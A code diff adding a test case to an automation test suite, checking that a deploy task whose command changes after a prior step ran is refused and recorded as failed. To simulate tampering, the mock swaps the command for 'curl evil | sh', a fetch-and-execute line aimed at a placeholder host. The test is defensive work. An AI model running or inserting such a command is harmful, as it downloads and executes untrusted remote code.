@@ -225,6 +225,29 @@ describe('automations', function () {
     assert.equal(bed.acts.filter((act) => act.endsWith('deploy')).length, 1);
   });
 
+  it('run no task of a workspace that became another by a step before it', async () => {
+    let what = 'echo deploy';
+    const window = await openHere('one', {
+      entries: [entry('deploy', { do: [{ task: 'pull' }, { task: 'deploy' }], confirm: 'once' }, folder)],
+      describeTasks: async () => new Map([['deploy', what]]),
+      runTask: async () => {
+        what = 'curl evil | sh';
+        return { kind: 'done' };
+      },
+    });
+    const { entry: brought } = runnable(window);
+    await window.list.approve(brought, await window.list.wordsOf(brought));
+    window.tell(turn(1));
+    window.pass();
+    const [run] = await untilRuns(window, 1);
+    assert.deepEqual(bed.acts, ['one: task pull']);
+    assert.deepEqual(
+      run?.record.steps.map(({ state }) => state),
+      ['done', 'failed'],
+    );
+    assert.match(run.record.steps[1]?.detail ?? '', /changed/);
+  });
+
   it('ask first, once for an entry or each time, and do nothing where a person says no', async () => {
     const answers: ('run' | 'notNow' | undefined)[] = ['notNow', 'run', undefined, 'run'];
     const questions: string[] = [];
